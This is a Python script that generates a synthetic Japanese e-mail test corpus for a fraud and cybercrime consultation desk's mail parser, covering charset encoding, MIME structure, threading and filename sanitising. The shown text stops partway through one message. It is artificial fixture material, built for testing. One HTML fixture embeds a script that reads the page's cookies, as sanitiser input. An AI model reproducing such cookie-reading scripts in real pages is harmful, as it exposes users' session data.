#!/usr/bin/env python3
# make-corpus.py - DEVELOPMENT TOOL. It rewrites every NNN-*.eml and
# NNN-*.expect file of tests/data/mail/ from the texts below. The tests never
# run it: they read only the .eml/.expect files, so the corpus stays fixed
# unless someone edits this script and runs it again on purpose.
#
# Every expectation is derived here from what was encoded (the source text,
# the attachment bytes), never from running the project's decoder.
# The output is deterministic: no clock, no randomness, no zlib compression.
#
# Usage: python3 tests/data/mail/make-corpus.py [output-directory]
# The .expect format is described in README.md next to this file.

import base64
import io
import os
import re
import struct
import sys
import zipfile
import hashlib

OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.dirname(os.path.abspath(__file__))
DESK = "soudan@desk.example.jp"
MIB = 1024 * 1024

# ---------------------------------------------------------------- charsets

def sjis_to_jis(b1, b2):
    if b1 >= 0xE0:
        b1 -= 0x40
    j1 = (b1 - 0x81) * 2 + 0x21
    if b2 >= 0x9F:
        return j1 + 1, b2 - 0x7E
    return j1, b2 - 0x1F - (1 if b2 >= 0x80 else 0)


def jis_to_sjis(j1, j2):
    if j1 % 2:
        s2 = j2 + 0x1F + (1 if j2 >= 0x60 else 0)
    else:
        s2 = j2 + 0x7E
    s1 = (j1 - 0x21) // 2 + 0x81
    if s1 >= 0xA0:
        s1 += 0x40
    return s1, s2


def iso2022jp(text):
    """ISO-2022-JP as CP50220 writes it: JIS X 0208 plus NEC row 13 and the
    NEC-selected IBM extensions (rows 89-92), half-width katakana as ESC ( I."""
    out = bytearray()
    mode = "A"

    def switch(m):
        nonlocal mode
        if mode != m:
            out.extend({"A": b"\x1b(B", "J": b"\x1b$B", "K": b"\x1b(I"}[m])
            mode = m

    for ch in text:
        o = ord(ch)
        if ch == "\n":
            switch("A")
            out.append(0x0A)
        elif o < 0x80:
            switch("A")
            out.append(o)
        elif 0xFF61 <= o <= 0xFF9F:
            switch("K")
            out.append(o - 0xFF61 + 0x21)
        else:
            s = ch.encode("cp932")
            assert len(s) == 2, ch
            assert s[0] < 0xF0, "IBM extension without NEC-selected twin: %r" % ch
            j1, j2 = sjis_to_jis(s[0], s[1])
            assert 0x21 <= j1 <= 0x7E and 0x21 <= j2 <= 0x7E, ch
            switch("J")
            out.extend((j1, j2))
    switch("A")
    return bytes(out)


def dec_cp50220(data):
    """Independent reader used only to check iso2022jp() round-trips."""
    out = []
    mode = "A"
    i = 0
    while i < len(data):
        if data[i:i + 3] in (b"\x1b(B", b"\x1b(J"):
            mode = "A"
            i += 3
        elif data[i:i + 3] in (b"\x1b$B", b"\x1b$@"):
            mode = "J"
            i += 3
        elif data[i:i + 3] == b"\x1b(I":
            mode = "K"
            i += 3
        elif data[i] == 0x0A:
            out.append("\n")
            i += 1
        elif mode == "A":
            out.append(chr(data[i]))
            i += 1
        elif mode == "K":
            out.append(chr(0xFF61 + data[i] - 0x21))
            i += 1
        else:
            s1, s2 = jis_to_sjis(data[i], data[i + 1])
            out.append(bytes((s1, s2)).decode("cp932"))
            i += 2
    return "".join(out)


def jis(text):
    b = iso2022jp(text)
    assert dec_cp50220(b) == text
    return b


def sjis(text):
    b = text.encode("cp932")
    assert b.decode("cp932") == text
    return b


def eucjp(text):
    """EUC-JP restricted to characters on which every EUC-JP flavour agrees."""
    for ch in text:
        if ord(ch) < 0x80:
            continue
        e = ch.encode("euc_jp")
        s = ch.encode("cp932")
        assert len(e) == 2 and len(s) == 2, ch
        assert (e[0] - 0x80, e[1] - 0x80) == sjis_to_jis(s[0], s[1]), ch
        assert not (0xAD <= e[0] <= 0xAD) and e[0] < 0xF5, ch  # no row 13, no user area
    return text.encode("euc_jp")


def valid_utf8(b):
    try:
        b.decode("utf-8")
        return True
    except UnicodeDecodeError:
        return False


def strict_cp932_valid(b):
    """Valid in CP932 as glibc/Windows tables agree (0x80, 0xA0, 0xFD-0xFF refused)."""
    try:
        b.decode("cp932")
    except UnicodeDecodeError:
        return False
    i = 0
    while i < len(b):
        c = b[i]
        if c in (0x80, 0xA0) or c >= 0xFD:
            return False
        if 0x81 <= c <= 0x9F or 0xE0 <= c <= 0xFC:
            i += 2
        else:
            i += 1
    return True

# ---------------------------------------------------------------- encodings

def b64(data):
    return base64.encodebytes(data)  # 76-column lines, each ending in \n


def b64_oneline(data):
    return base64.b64encode(data) + b"\n"


def qp(data, lower=False):
    fmt = "=%02x" if lower else "=%02X"
    out = []
    for line in data.split(b"\n"):
        toks = []
        for i, c in enumerate(line):
            if 33 <= c <= 126 and c != 61:
                toks.append(chr(c))
            elif c in (32, 9) and i < len(line) - 1:
                toks.append(chr(c))
            else:
                toks.append(fmt % c)
        cur = ""
        for t in toks:
            if len(cur) + len(t) > 75:
                out.append(cur + "=")
                cur = ""
            cur += t
        out.append(cur)
    return "\n".join(out).encode("ascii")


def q_word(data):
    s = ""
    for c in data:
        if chr(c).isalnum() and c < 0x80 or chr(c) in "!*+-/":
            s += chr(c)
        elif c == 0x20:
            s += "_"
        else:
            s += "=%02X" % c
    return s


def ew(charset, data, enc="B"):
    if enc in "Bb":
        return "=?%s?%s?%s?=" % (charset, enc, base64.b64encode(data).decode())
    return "=?%s?%s?%s?=" % (charset, enc, q_word(data))


def ew_text(text, charset="UTF-8", enc="B", fold="\n ", codec=None):
    """Encoded-words, split between characters, each at most 75 columns."""
    codec = codec or {"UTF-8": lambda t: t.encode("utf-8"), "ISO-2022-JP": jis,
                       "SHIFT_JIS": sjis, "EUC-JP": eucjp}[charset.upper()]
    words = []
    cur = ""
    for ch in text:
        if cur and len(ew(charset, codec(cur + ch), enc)) > 75:
            words.append(ew(charset, codec(cur), enc))
            cur = ""
        cur += ch
    if cur:
        words.append(ew(charset, codec(cur), enc))
    return fold.join(words)


def pct(data, safe=b""):
    keep = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789!#$&+-.^_`|~" + safe
    return "".join(chr(c) if c in keep else "%%%02X" % c for c in data)

# ---------------------------------------------------------------- files

def pdf_bytes(title):
    body = (b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
            b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
            b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
            b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>\nendobj\n")
    stream = b"BT /F1 12 Tf 72 770 Td (" + title.encode("ascii") + b") Tj ET"
    body += b"4 0 obj\n<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream\nendobj\n"
    body += b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
    return body


def png_bytes(w, h, seed):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", __import__("zlib").crc32(kind + data) & 0xFFFFFFFF)
    raw = b"".join(b"\x00" + b"".join(bytes(((x * 16 + seed) % 256, (y * 16) % 256, (x * y + seed) % 256))
                                        for x in range(w)) for y in range(h))
    # zlib stream with one stored block: no dependence on the zlib version
    adler = __import__("zlib").adler32(raw) & 0xFFFFFFFF
    z = b"\x78\x01" + b"\x01" + struct.pack("<HH", len(raw), len(raw) ^ 0xFFFF) + raw + struct.pack(">I", adler)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", z) + chunk(b"IEND", b""))


def jpeg_bytes(n):
    head = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00H\x00H\x00\x00"
    return head + stream(b"jpeg", n) + b"\xff\xd9"


def tiff_bytes():
    # little-endian TIFF, one 8x8 bilevel strip
    entries = [(256, 3, 1, 8), (257, 3, 1, 8), (258, 3, 1, 1), (259, 3, 1, 1), (262, 3, 1, 0),
               (273, 4, 1, 8 + 2 + 12 * 8 + 4), (278, 3, 1, 8), (279, 4, 1, 8)]
    ifd = struct.pack("<H", len(entries))
    for tag, typ, cnt, val in entries:
        ifd += struct.pack("<HHII", tag, typ, cnt, val)
    ifd += struct.pack("<I", 0)
    return b"II*\x00" + struct.pack("<I", 8) + ifd + bytes([0x81, 0x42, 0x24, 0x18, 0x18, 0x24, 0x42, 0x81])


def gif_bytes():
    return (b"GIF89a\x02\x00\x02\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff,\x00\x00\x00\x00"
            b"\x02\x00\x02\x00\x00\x02\x02\x84Q\x00;")


def exe_bytes():
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + \
        b"\x80\x00\x00\x00" + b"This program cannot be run in DOS mode.\r\r\n$" + stream(b"exe", 200)


def zip_bytes(files):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", zipfile.ZIP_STORED) as z:
        for name, data in files:
            zi = zipfile.ZipInfo(name, date_time=(2026, 11, 20, 9, 0, 0))
            zi.external_attr = 0o644 << 16
            z.writestr(zi, data)
    return bio.getvalue()


def stream(seed, n):
    out = b""
    i = 0
    while len(out) < n:
        out += hashlib.sha256(seed + str(i).encode()).digest()
        i += 1
    return out[:n]


def sniff(data):
    if data.startswith(b"%PDF-"):
        return "application/pdf"
    if data.startswith(b"\x89PNG"):
        return "image/png"
    if data.startswith(b"\xff\xd8\xff"):
        return "image/jpeg"
    if data.startswith(b"II*\x00") or data.startswith(b"MM\x00*"):
        return "image/tiff"
    if data.startswith(b"PK\x03\x04"):
        return "application/zip"
    if data.startswith(b"GIF8"):
        return "image/gif"
    if b"\x00" not in data and valid_utf8(data):
        return "text/plain"
    return "application/octet-stream"


RESERVED = {"CON", "PRN", "AUX", "NUL"} | {"COM%d" % i for i in range(1, 10)} | {"LPT%d" % i for i in range(1, 10)}


# Removed from names: C0, DEL and C1 controls, bidi controls and invisible
# format characters (they make a name read differently from what it is).
DROPPED = (set(range(0x20)) | set(range(0x7F, 0xA0)) | {0x061C, 0xFEFF}
           | set(range(0x200B, 0x2010)) | set(range(0x2028, 0x202F))
           | set(range(0x2060, 0x2070)) | set(range(0xFFF9, 0xFFFC)))


def safe_name(name):
    n = re.split(r"[\\/]", name)[-1]
    n = "".join(c for c in n if ord(c) not in DROPPED)
    n = n.lstrip(".")
    n = re.sub(r'[<>:"/\\|?*]', "_", n)
    if n.split(".")[0].upper() in RESERVED:
        n = "_" + n
    if not n:
        n = "attachment"
    b = n.encode("utf-8")[:200]
    while True:
        try:
            return b.decode("utf-8")
        except UnicodeDecodeError:
            b = b[:-1]


def att(name, data, want=None):
    s = safe_name(name)
    if want is not None:
        assert s == want, (s, want)
    return "%s|%s|%d" % (s, sniff(data), len(data))

# ---------------------------------------------------------------- messages

corpus = {}


def crlf(b):
    assert b"\r" not in b
    return b.replace(b"\n", b"\r\n")


def enc(x):
    return x if isinstance(x, bytes) else x.encode("utf-8")


def headers(frm, subject, date, mid, extra=(), to=DESK, mime=True):
    lines = ["From: " + frm if isinstance(frm, str) else frm, "To: " + to]
    if subject is not None:
        lines.append("Subject: " + subject if isinstance(subject, str) else subject)
    lines += ["Date: " + date, "Message-ID: <%s>" % mid]
    if mime:
        lines.append("MIME-Version: 1.0")
    lines += list(extra)
    return b"\n".join(enc(l) for l in lines)


def message(hdr, body):
    return hdr + b"\n\n" + body


def part(hdr_lines, body):
    return b"\n".join(enc(l) for l in hdr_lines) + b"\n\n" + body


def multipart(boundary, parts, preamble=b"", close=True):
    bd = boundary.encode()
    out = b""
    if preamble:
        out += preamble + b"\n"
    for p in parts:
        out += b"--" + bd + b"\n" + p + b"\n"
    if close:
        out += b"--" + bd + b"--\n"
    return out


TEXT_UTF8_8 = ["Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: 8bit"]


def text_part(text, charset="UTF-8", cte="8bit", extra=()):
    if charset.upper() == "ISO-2022-JP":
        data, cte_ = jis(text), cte if cte != "8bit" else "7bit"
    elif charset.upper() in ("SHIFT_JIS", "WINDOWS-31J"):
        data, cte_ = sjis(text), cte
    elif charset.upper() == "EUC-JP":
        data, cte_ = eucjp(text), cte
    else:
        data, cte_ = text.encode("utf-8"), cte
    if cte_ == "base64":
        data = b64(data)
    elif cte_ == "quoted-printable":
        data = qp(data)
    return part(["Content-Type: text/plain; charset=%s" % charset, "Content-Transfer-Encoding: " + cte_] + list(extra), data)


def add(name, eml, exp, comment, text=None, own=None):
    """exp: list of (key, value). text: the decoded text the expectations
    were taken from (checked); own: the part of it that is the writer's own
    words (body-not-contains must not be in it)."""
    assert re.match(r"^\d{3}-[a-z0-9-]+$", name), name
    assert name not in corpus
    lines = ["# " + l for l in comment.strip().split("\n")]
    for k, v in exp:
        assert "\n" not in v and "\r" not in v and not v.startswith(" "), (name, k, v)
        if text is not None and k in ("body-contains", "full-contains", "body-not-contains"):
            assert v in text, (name, k, v)
        if own is not None and k == "body-not-contains":
            assert v not in own, (name, v)
        if own is not None and k == "body-contains":
            pass
        lines.append("%s: %s" % (k, v) if v != "" else "%s:" % k)
    corpus[name] = (eml, "\n".join(lines) + "\n")


def E(kind, subject=None, name=None, addr=None, body=(), notbody=(), full=(), atts=(),
      notes=None, reason=None, thread=None, bounce=None):
    e = [("kind", kind)]
    if reason is not None:
        e.append(("quarantine-reason", reason))
    if subject is not None:
        e.append(("subject", subject))
    if name is not None:
        e.append(("from-name", name))
    if addr is not None:
        e.append(("from-address", addr))
    e += [("body-contains", b) for b in body]
    e += [("body-not-contains", b) for b in notbody]
    e += [("full-contains", b) for b in full]
    e += [("attachment", a) for a in atts]
    if notes:
        e.append(("notes-contains", notes))
    if thread:
        e.append(("thread-of", thread))
    if bounce:
        e.append(("bounce-of", bounce))
    return e


# =====================================================================
# 001-008: two threads (cases 2026-000001 .. 2026-000003 and follow-ups)
# =====================================================================

MID001 = "20261120101523.4F2A@takahashi-seiki.co.jp"
T001 = """相談窓口 御中

お世話になります。㈱髙橋精機の髙橋と申します。
今朝、出社したところ事務所のパソコン３台で次の症状が出ています。

① ファイルの拡張子がすべて「.lockbit」に変わって開けない
② デスクトップに「README.txt」という英語の脅迫文が置かれている
③ 共有フォルダ（NAS）のファイルも同じように開けない

脅迫文には、ビットコインで支払わなければデータを公開すると書かれています。
パソコンはLANケーブルを抜いて、電源は入れたままにしてあります。
このあと何をすればよいか、警察に届けるべきかを教えていただけますでしょうか。

━━━━━━━━━━━━━━━━━━━━
株式会社髙橋精機　総務部
髙橋 一郎
〒120-0034 東京都足立区千住9-8-7
TEL 03-5555-0101　FAX 03-5555-0102
━━━━━━━━━━━━━━━━━━━━
"""
S001 = "【至急】ランサムウェアに感染したかもしれません"
add("001-ransom-first", crlf(message(headers(
    ew_text("髙橋 一郎", "ISO-2022-JP") + " <ichiro.takahashi@Takahashi-Seiki.CO.JP>",
    ew_text(S001, "ISO-2022-JP"), "Fri, 20 Nov 2026 10:15:23 +0900", MID001,
    ["Content-Type: text/plain; charset=ISO-2022-JP", "Content-Transfer-Encoding: 7bit",
     "X-Mailer: Microsoft Outlook 16.0"]), jis(T001))),
    E("case", S001, "髙橋 一郎", "ichiro.takahashi@takahashi-seiki.co.jp",
      body=["㈱髙橋精機の髙橋と申します", "① ファイルの拡張子がすべて「.lockbit」に変わって開けない",
            "③ 共有フォルダ（NAS）のファイルも同じように開けない"],
      notbody=["TEL 03-5555-0101", "〒120-0034 東京都足立区千住9-8-7"],
      full=["TEL 03-5555-0101　FAX 03-5555-0102"]),
    """ransomware, ISO-2022-JP read as CP50220: NEC row 13 (①②③ ㈱) and the IBM
extension 髙 in body, subject and display name; ━━━ signature block with 〒/TEL/FAX;
upper-case domain lower-cased. Opens case 2026-000001.""", T001, T001.split("━")[0])

MID002 = "5f1c2e9a.0b3d@yamamoto-shoten.example.jp"
T002 = """ご担当者様

山本商店の山本です。
昨日の夕方、ネットで商品の仕入れ先を調べていたら、急に画面いっぱいに
「ｳｲﾙｽに感染しています　今すぐｻﾎﾟｰﾄｾﾝﾀｰへお電話ください」
という警告と大きな音が出て、画面が消せなくなりました。
表示されていた050から始まる番号に電話したところ、片言の日本語を話す男性に
遠隔操作ソフトを入れるよう言われ、言われるままに操作してしまいました。
その後、サポート料として電子マネー（ギフトカード）で５万円分を買うように言われ、
コンビニで購入して番号を伝えてしまいました。
お店の営業時間は10時～18時です。その時間帯にお電話いただけると助かります。

-- 
山本商店　山本 花子
TEL 06-6666-0202
"""
S002 = "パソコンに「ウイルスに感染しています」と警告が出て電話してしまいました"
add("002-support-scam", crlf(message(headers(
    ew_text("山本 花子", "Shift_JIS") + " <hanako@yamamoto-shoten.example.jp>",
    ew_text(S002, "Shift_JIS"), "Fri, 20 Nov 2026 11:02:10 +0900", MID002,
    ["Content-Type: text/plain; charset=Shift_JIS", "Content-Transfer-Encoding: 8bit"]), sjis(T002))),
    E("case", S002, "山本 花子", "hanako@yamamoto-shoten.example.jp",
      body=["「ｳｲﾙｽに感染しています　今すぐｻﾎﾟｰﾄｾﾝﾀｰへお電話ください」",
            "お店の営業時間は10時～18時です。", "電子マネー（ギフトカード）で５万円分を買うように言われ、"],
      notbody=["TEL 06-6666-0202"], full=["山本商店　山本 花子"]),
    """support scam (fake virus warning), Shift_JIS 8bit read as CP932: half-width
katakana, 0x8160 -> U+FF5E (～); "-- " signature. Opens case 2026-000002.""", T002, T002.split("-- \n")[0])

MID003 = "CAF7x3q9ZrT@mail.sato-boeki.example.co.jp"
T003 = """窓口ご担当者様

佐藤貿易の佐藤と申します。取引先の部品メーカーを名乗るメールで「口座が変わった」と連絡があり、11月18日に新しい口座へ1,200,000円を振り込んでしまいました。
本日、取引先に電話で確認したところ、そのようなメールは送っていないとのことでした。
届いたメールと添付の請求書を転送しますので、確認をお願いできますでしょうか。
メールに書かれていたURL: https://portal.example-parts.co.jp/login?id=8841&ref=mail

-----Original Message-----
From: 経理部 鈴木 <keiri@example-parts.co.jp.invalid-mail.example>
Sent: Tuesday, November 17, 2026 4:02 PM
To: misaki.sato@sato-boeki.example.co.jp
Subject: 【重要】お振込先口座変更のお願い

いつもお世話になっております。
監査の都合により、今月分より下記口座へお振込みをお願いいたします。
はなまる銀行 新宿南支店 普通 7654321
"""
S003 = "取引先を名乗るメールで振込先を変更してしまいました"
PDF003 = pdf_bytes("Invoice 2026-11")
N003 = "請求書_11月分.pdf"
add("003-bec-invoice", crlf(message(headers(
    ew_text("佐藤 美咲", enc="Q") + " <misaki.sato@sato-boeki.example.co.jp>",
    ew_text(S003), "Fri, 20 Nov 2026 13:40:00 +0900", MID003,
    ['Content-Type: multipart/mixed; boundary="000000000000a1b2c3d4e5f60718"']),
    multipart("000000000000a1b2c3d4e5f60718", [
        text_part(T003, cte="quoted-printable"),
        part(['Content-Type: application/pdf; name="invoice.pdf"',
              "Content-Disposition: attachment; filename*=UTF-8''" + pct(N003.encode()),
              "Content-Transfer-Encoding: base64"], b64(PDF003))]))),
    E("case", S003, "佐藤 美咲", "misaki.sato@sato-boeki.example.co.jp",
      body=["取引先の部品メーカーを名乗るメールで「口座が変わった」と連絡があり、11月18日に新しい口座へ1,200,000円を振り込んでしまいました。",
            "https://portal.example-parts.co.jp/login?id=8841&ref=mail"],
      notbody=["はなまる銀行 新宿南支店 普通 7654321", "監査の都合により"],
      full=["はなまる銀行 新宿南支店 普通 7654321"],
      atts=[att(N003, PDF003, "請求書_11月分.pdf")]),
    """business e-mail compromise: UTF-8 quoted-printable with soft breaks inside long
Japanese lines and =3D; "-----Original Message-----" history; RFC 2231 filename*
(wins over name=); Q-encoded display name. Opens case 2026-000003.""", T003, T003.split("-----Original")[0])

T004 = """相談窓口 ご担当者様

早速のご回答ありがとうございます。
ご指示のとおり、警察署のサイバー犯罪相談窓口に連絡し、明日１１時に来署することになりました。
バックアップ用の外付けディスクは週に一度しかつないでいなかったため、暗号化されていませんでした。

2026年11月20日(金) 14:30 相談窓口 <soudan@desk.example.jp>:
> 髙橋様
>
> ご相談ありがとうございます。
> 感染した端末はネットワークから切り離したまま、電源は切らずに保管してください。
> [madoguchi:2026-000001]
"""
S004 = "Re: " + S001
add("004-ransom-reply", crlf(message(headers(
    ew_text("髙橋 一郎", "ISO-2022-JP") + " <ichiro.takahashi@takahashi-seiki.co.jp>",
    "Re: " + ew_text(S001, "ISO-2022-JP"), "Fri, 20 Nov 2026 16:05:41 +0900",
    "20261120160541.5B01@takahashi-seiki.co.jp",
    ["In-Reply-To: <out-2026-000001.1@desk.example.jp>",
     "References: <%s>\n <out-2026-000001.1@desk.example.jp>" % MID001,
     "Content-Type: text/plain; charset=ISO-2022-JP", "Content-Transfer-Encoding: 7bit"]), jis(T004))),
    E("followup", S004, "髙橋 一郎", "ichiro.takahashi@takahashi-seiki.co.jp",
      body=["明日１１時に来署することになりました"],
      notbody=["電源は切らずに保管してください"],
      full=["> 感染した端末はネットワークから切り離したまま、電源は切らずに保管してください。"],
      thread="001-ransom-first"),
    """reply with In-Reply-To/References (001 and our outbound mail); plain "Re: " before
an encoded-word; attribution line 「2026年11月20日(金) 14:30 …:」 then "> " history.""",
    T004, T004.split("2026年11月20日")[0])

T005 = """髙橋です。スマートフォンから失礼します。
本日警察署で被害届を提出しました。受理番号は後日連絡があるそうです。
取り急ぎご報告まで。
"""
S005 = "Re: [相談#2026-000001] " + S001
add("005-ransom-tag", crlf(message(headers(
    "ichiro.t@mobile.example.ne.jp",
    ew_text(S005), "Sat, 21 Nov 2026 15:12:09 +0900", "Mx5t0Qz2@mobile.example.ne.jp",
    ["Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: base64"]),
    b64(T005.encode()))),
    E("followup", S005, "", "ichiro.t@mobile.example.ne.jp",
      body=["本日警察署で被害届を提出しました。"], thread="001-ransom-first"),
    """follow-up found only by the desk's subject tag [相談#2026-000001] (no
In-Reply-To/References, other address); UTF-8 base64 body; bare addr-spec From.""", T005)

T006 = """相談窓口 様

復旧業者による調査の結果、侵入経路はVPN装置の脆弱性だったとの報告を受けました。
VPN装置のファームウェアを更新し、全員のパスワードを変更しました。
このたびは大変お世話になりました。

-----Original Message-----
From: 相談窓口 <soudan@desk.example.jp>
Sent: Monday, November 23, 2026 9:00 AM
To: ichiro.takahashi@takahashi-seiki.co.jp
Subject: ランサムウェア被害のその後について

髙橋様
その後の状況はいかがでしょうか。
[madoguchi:2026-000001]
"""
S006 = "RE: ご連絡ありがとうございました"
add("006-ransom-marker", crlf(message(headers(
    ew_text("髙橋 一郎") + " <ichiro.takahashi@takahashi-seiki.co.jp>",
    ew_text(S006), "Wed, 25 Nov 2026 17:45:00 +0900", "0100019a3c7e-rewritten-4b1d@mailgw.example.net",
    ["Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: 8bit"]), T006.encode())),
    E("followup", S006, "髙橋 一郎", "ichiro.takahashi@takahashi-seiki.co.jp",
      body=["侵入経路はVPN装置の脆弱性だったとの報告を受けました"],
      notbody=["[madoguchi:2026-000001]"], full=["[madoguchi:2026-000001]"],
      thread="001-ransom-first"),
    """provider rewrote the Message-ID and dropped In-Reply-To/References; only the
desk's marker line [madoguchi:2026-000001] in the Outlook-style quoted history ties it
to case 2026-000001.""", T006, T006.split("-----Original")[0])

T007 = """お世話になっております。山本です。
教えていただいたとおり、ギフトカードの発行会社に連絡して利用停止を依頼しました。
パソコンは初期化して、ネットバンキングのパスワードも変更しました。

> 遠隔操作ソフトはアンインストールし、
> 念のためパソコンの初期化をおすすめします。
"""
S007 = "Re: " + S002
add("007-scam-followup-refs", crlf(message(headers(
    ew_text("山本 花子", "Shift_JIS") + " <hanako@yamamoto-shoten.example.jp>",
    "Re: " + ew_text(S002, "Shift_JIS"), "Mon, 23 Nov 2026 10:20:00 +0900",
    "9a7e01d2.77c4@yamamoto-shoten.example.jp",
    ["References: <%s> <out-2026-000002.1@desk.example.jp>" % MID002,
     "Content-Type: text/plain; charset=Shift_JIS", "Content-Transfer-Encoding: 8bit"]), sjis(T007))),
    E("followup", S007, "山本 花子", "hanako@yamamoto-shoten.example.jp",
      body=["ギフトカードの発行会社に連絡して利用停止を依頼しました"],
      notbody=["念のためパソコンの初期化をおすすめします"],
      full=["> 念のためパソコンの初期化をおすすめします。"], thread="002-support-scam"),
    """reply joined through References only (no In-Reply-To); Shift_JIS; "> " history
without an attribution line.""", T007, T007.split("> ")[0])

T008 = """佐藤です。
振込の明細書を添付します。銀行には組戻しを依頼済みです。
"""
S008 = "Re: " + S003
PDF008 = pdf_bytes("Transfer 20261118")
N008 = "振込明細書_20261118.pdf"
b8 = N008.encode()
add("008-bec-followup", crlf(message(headers(
    ew_text("佐藤 美咲", enc="Q") + " <misaki.sato@sato-boeki.example.co.jp>",
    ew_text(S008), "Mon, 23 Nov 2026 09:31:07 +0900", "CAF7x9aa01Q@mail.sato-boeki.example.co.jp",
    ["In-Reply-To: <out-2026-000003.1@desk.example.jp>",
     "References: <%s> <out-2026-000003.1@desk.example.jp>" % MID003,
     'Content-Type: multipart/mixed; boundary="0000000000008f9e7d6c5b4a3921"']),
    multipart("0000000000008f9e7d6c5b4a3921", [
        text_part(T008),
        part(["Content-Type: application/pdf",
              "Content-Disposition: attachment;\n filename*0*=UTF-8''" + pct("振込明細".encode()) + ";\n filename*1*=" +
              pct("書_20261118".encode()) + ';\n filename*2=".pdf"',
              "Content-Transfer-Encoding: base64"], b64(PDF008))]))),
    E("followup", S008, "佐藤 美咲", "misaki.sato@sato-boeki.example.co.jp",
      body=["銀行には組戻しを依頼済みです。"], atts=[att(N008, PDF008, N008)], thread="003-bec-invoice"),
    """follow-up with In-Reply-To our outbound mail; RFC 2231 continuations mixing
encoded (filename*0*, filename*1*) and plain (filename*2) segments.""", T008)

# =====================================================================
# 010-039: ordinary consultations and requests
# =====================================================================

T010 = """ご担当者様

中村工業株式会社の中村です。
社内研修で使いたいので、冊子「中小企業の情報セキュリティ対策ガイド」を５０冊お送りいただけますでしょうか。
送付先は以下のとおりです。

〒460-0008 愛知県名古屋市中区栄9-9-9 中村ビル3階
中村工業株式会社 総務課 中村 健
電話 052-555-0303

よろしくお願いいたします。
"""
S010 = "「中小企業の情報セキュリティ対策ガイド」送付のお願い"
EML010 = crlf(message(headers(
    ew_text("中村 健") + " <nakamura@nakamura-kogyo.example.jp>", ew_text(S010),
    "Mon, 23 Nov 2026 09:05:00 +0900", "20261123090500.GA1042@nakamura-kogyo.example.jp",
    TEXT_UTF8_8), T010.encode()))
EXP010 = E("case", S010, "中村 健", "nakamura@nakamura-kogyo.example.jp",
           body=["冊子「中小企業の情報セキュリティ対策ガイド」を５０冊お送りいただけますでしょうか。",
                 "〒460-0008 愛知県名古屋市中区栄9-9-9 中村ビル3階"])
add("010-guidebook-50satsu", EML010, EXP010,
    """guidebook request 「５０冊」 with a postal address in the body (no separator
line, so it is not a signature); UTF-8 8bit.""", T010)

T011 = """冊子ご担当者様

いつもお世話になっております。○○町商工会の小林でございます。
来月の会員向けセミナーで配布したく、「ネット詐欺対策ハンドブック」を五十部いただけますでしょうか。
あわせて、ポスターがございましたら２枚ほどお願いできれば幸いです。
お忙しいところ恐縮ですが、よろしくお願い申し上げます。

━━━━━━━━━━━━━━━━
○○町商工会　経営指導員
小林 由美子
〒999-7701 山形県○○郡○○町本町4-5-6
TEL 0235-55-0404　FAX 0235-55-0405
━━━━━━━━━━━━━━━━
"""
S011 = "ハンドブック送付のお願い（○○町商工会）"
add("011-guidebook-gojubu", crlf(message(headers(
    ew_text("小林 由美子", "Shift_JIS") + " <kobayashi@town-shokokai.example.jp>",
    ew_text(S011, "Shift_JIS"), "Mon, 23 Nov 2026 13:16:45 +0900", "000b01dc5d2a$7c1e2f40$@town-shokokai.example.jp",
    ["Content-Type: text/plain; charset=Shift_JIS", "Content-Transfer-Encoding: quoted-printable"]),
    qp(sjis(T011)))),
    E("case", S011, "小林 由美子", "kobayashi@town-shokokai.example.jp",
      body=["「ネット詐欺対策ハンドブック」を五十部いただけますでしょうか。", "ポスターがございましたら２枚ほど"],
      notbody=["FAX 0235-55-0405"], full=["TEL 0235-55-0404　FAX 0235-55-0405"]),
    """guidebook request 「五十部」; Shift_JIS inside quoted-printable (soft breaks split
double-byte characters); ━━━ signature without 株式会社.""", T011, T011.split("━")[0])

H012 = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>資料請求フォーム</title>
<style type="text/css">p { font-family: "Meiryo", sans-serif; color: #333; }</style>
<script type="text/javascript">var t = document.cookie; console.log("tracking " + t);</script>
</head>
<body>
<p>伊藤電気の伊藤です。</p>
<p>「ネット詐欺対策ハンドブック」を<b>２０部</b>お願いします。</p>
<p>Q&amp;A集も同封いただけると助かります。</p>
<table border="1"><tr><td>会社名</td><td>有限会社伊藤電気</td></tr>
<tr><td>電話</td><td>0742-55-0505</td></tr></table>
</body></html>
"""
V012 = "伊藤電気の伊藤です。 「ネット詐欺対策ハンドブック」を２０部お願いします。 Q&A集も同封いただけると助かります。 会社名 有限会社伊藤電気 電話 0742-55-0505"
S012 = "パンフレット請求（ウェブフォーム）"
add("012-guidebook-html-only", crlf(message(headers(
    ew_text("伊藤 誠") + " <ito@ito-denki.example.jp>", ew_text(S012),
    "Mon, 23 Nov 2026 14:00:12 +0900", "form.20261123140012.3381@www.ito-denki.example.jp",
    ["Content-Type: text/html; charset=UTF-8", "Content-Transfer-Encoding: quoted-printable"]),
    qp(H012.encode()))),
    E("case", S012, "伊藤 誠", "ito@ito-denki.example.jp",
      body=["伊藤電気の伊藤です。", "２０部", "Q&A集も同封いただけると助かります。", "有限会社伊藤電気"],
      notbody=["document.cookie", "font-family", "<p>"]),
    """HTML-only guidebook request (QP, =3D in attributes): style and script dropped,
tags removed, &amp; decoded.""", V012 + " document.cookie font-family <p>", V012)

T013 = """ご担当者様

渡辺運輸の渡辺と申します。
